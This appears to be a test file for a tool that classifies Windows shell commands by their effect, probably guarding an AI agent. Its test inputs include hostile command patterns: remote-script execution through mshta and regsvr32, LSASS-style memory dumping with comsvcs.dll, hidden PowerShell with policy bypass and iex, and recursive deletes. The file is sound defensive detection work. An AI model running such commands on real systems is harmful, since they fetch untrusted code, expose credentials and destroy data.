import { cmdDoes, powershellDoes } from "./lines.ts";

powershellDoes({
  'cmd /c "rd /s /q \\"D:\\Work With Agent\\x\\""': ["runs cmd: rd /s /q \\ D:\\Work With Agent\\x\\"],
  "cmd /c 'rd /s /q \"D:\\Work With Agent\\x\"'": ['runs cmd: rd /s /q "D:\\Work With Agent\\x"'],
  'cmd /c rd /s /q "C:\\a b"': ['runs cmd: rd /s /q "C:\\a b"'],
  "cmd /c rd /s /q C:\\$Name": ["runs cmd: rd /s /q C:\\$name"],
  'cmd /c "C:\\Program Files\\x.exe" "a b"': ['runs cmd: C:\\Program Files\\x.exe" "a b'],
  "powershell -Command { rm x }": ["runs powershell:  rm x "],
  'powershell -Command "& { rm x }"': ["runs powershell: & { rm x }"],
  'cmd /c "C:\\Program Files\\x.exe"': ['runs cmd: "C:\\Program Files\\x.exe"'],
});

cmdDoes({
  'powershell -NoProfile -ExecutionPolicy Bypass -Command "Remove-Item x"': ["runs powershell: Remove-Item x"],
  "powershell -c rm x": ["runs powershell: rm x"],
  "powershell -File a.ps1 -x y": ["runs powershell file: a.ps1"],
  "powershell -enc cgBtACAAeAA=": ["runs powershell: rm x"],
  "powershell -EncodedCommand !!": ["opaque foreign-code encoded command"],
  'powershell "rm x"': ["runs powershell: rm x"],
  "pwsh a.ps1": ["runs powershell file: a.ps1"],
  "pwsh -nop -w hidden -ep bypass -c iex": ["runs powershell: iex"],
  "pwsh --version": [],
  "pwsh --help": [],
  "pwsh -Command -": ["runs powershell from stdin"],
  'powershell /c "rm x"': ["runs powershell: rm x"],
  "cmd /c del x": ["runs cmd: del x"],
  'cmd /c "del x"': ["runs cmd: del x"],
  'cmd //c "rmdir /s /q node_modules"': ["runs cmd: rmdir /s /q node_modules"],
  'cmd /s /c "rd /s /q \\"C:\\a b\\""': ['runs cmd: rd /s /q "C:\\a b"'],
  "cmd /q /k dir": ["runs cmd: dir"],
  cmd: ["runs cmd from stdin"],
  "wsl rm -rf /mnt/c/x": ["runs shell: rm -rf c:/x"],
  "wsl --unregister Ubuntu": ["destroy volume Ubuntu"],
  "wsl --shutdown": ["signal wsl runtime"],
  "wsl -d Ubuntu -e ls": ["runs: ls"],
  'wsl -e bash -c "rm -rf /mnt/d/x"': ['runs: bash -c "rm -rf d:/x"'],
  'wsl bash -c "rm -rf x"': ['runs shell: bash -c "rm -rf x"'],
  "wsl -- git status": ["runs shell: git status"],
  "wsl --list --verbose": [],
  "mshta https://x.y/a.hta": ["run https://x.y/a.hta fetched from[fetched https://x.y/a.hta]"],
  'mshta vbscript:Execute("x")': ["opaque foreign-code vbscript:Execute(x)"],
  "cscript //nologo a.vbs": ["runs unknown file: a.vbs"],
  "rundll32 user32.dll,LockWorkStation": [],
  "rundll32 C:\\x.dll,Run": ["runs unknown file: c:\\x.dll"],
  "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 600 a.dmp full": [
    "reveal what(process memory credential body)",
  ],
  "regsvr32 /s /n /u /i:https://x.y/a.sct scrobj.dll": [
    "run https://x.y/a.sct fetched from[fetched https://x.y/a.sct]",
    "runs unknown file: scrobj.dll",
  ],
  "regsvr32 a.dll": ["runs unknown file: a.dll"],
  'forfiles /p C:\\x /m *.log /c "cmd /c del @path"': ['runs cmd: del "C:\\x\\*.log"'],
  'forfiles /c "cmd /c echo @file"': ['runs cmd: echo ".\\*"'],
  "installutil /u a.dll": ["runs unknown file: a.dll"],
  "explorer .": ["read ."],
});

// A home of this side before the other side's shell has put in its own.
powershellDoes({
  "wsl rm -rf C:\\Users\\dev": ["runs shell: rm -rf ~"],
  "wsl rm -rf C:\\Users\\dev/old/src": ["runs shell: rm -rf ~/old/src"],
  "wsl ls C:\\Users": ["runs shell: ls C:\\Users"],
});
